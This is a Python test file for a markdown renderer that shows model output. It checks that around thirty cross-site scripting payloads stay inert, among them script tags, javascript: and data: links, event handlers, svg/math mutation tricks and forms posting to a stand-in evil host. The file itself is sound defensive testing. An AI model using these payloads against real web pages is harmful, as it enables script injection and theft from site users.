"""Model output is hostile: whatever it says, nothing runs and nothing is fetched."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from config.markdown import MAX_MARKDOWN_CHARS, render_markdown

SAFE_TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "pre", "s", "span", "strong",
    "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
SAFE_ATTRIBUTES = {"class", "href", "rel", "start", "title"}


class Inspector(HTMLParser):
    """Fails on any element, attribute or address that is not known to be harmless."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in SAFE_TAGS
        for name, value in attrs:
            assert name in SAFE_ATTRIBUTES
            if name == "href":
                assert (value or "").startswith(("http://", "https://", "mailto:"))


def test_it_works() -> None:
    html = render_markdown("**bold** ~~old~~ `x`\n\n| a |\n|---|\n| 1 |\n\n[l](https://e.org 't')")
    for part in ("<strong>bold</strong>", "<s>old</s>", "<code>x</code>", "<td>1</td>"):
        assert part in html
    assert 'rel="nofollow noopener noreferrer"' in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.test/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#x73;cript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
        "![x](javascript:alert(1))",
        '![x" onerror="alert(1)](https://e.org/"onerror="alert(1))',
        "![<script>alert(1)</script>](https://e.org/a.png)",
        "[x](https://e.org 'a\" onmouseover=\"alert(1)')",
        "[x](/accounts/logout/)",
        "[x](//evil.test/)",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "<iframe src='https://evil.test'></iframe>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form action=https://evil.test><input name=p></form>",
        "<style>body{display:none}</style>",
        "<div style='position:fixed' hx-get='/x' hx-trigger='load'>x</div>",
        "<object data=x></object><embed src=x><base href=//evil.test>",
        "<details open ontoggle=alert(1)>",
        "```\"><script>alert(1)</script>\ncode\n```",
        "```html\n<script>alert(1)</script>\n```",
        "```python\"onclick=alert(1)\nx\n```",
        "<!-- --!><script>alert(1)</script> -->",
        "\x00<script\x00>alert(1)</script>",
    ],
)  # fmt: skip
def test_hostile_text_stays_text(text: str) -> None:
    Inspector(convert_charrefs=True).feed(render_markdown(text))


def test_pictures_become_links() -> None:
    html = render_markdown("![a chart](https://e.org/a.png)")
    assert "<img" not in html
    assert ">a chart (image)</a>" in html


def test_headings_do_not_join_the_outline_of_the_page() -> None:
    html = render_markdown("# Title\n\nText")
    assert "<h1" not in html
    assert '<p class="md-heading md-h1">Title</p>' in html


def test_code_is_coloured_by_classes_only() -> None:
    html = render_markdown("```python\ndef f(): pass\n```")
    assert '<span class="k">def</span>' in html
    assert "style=" not in html


def test_a_huge_text_is_shown_plain() -> None:
    html = render_markdown("<b>" + "x" * MAX_MARKDOWN_CHARS)
    assert html.startswith("<pre>&lt;b&gt;x")


def test_deep_nesting_is_no_problem() -> None:
    Inspector().feed(render_markdown("> " * 3000 + "x\n" + "[" * 3000 + "*" * 3000))
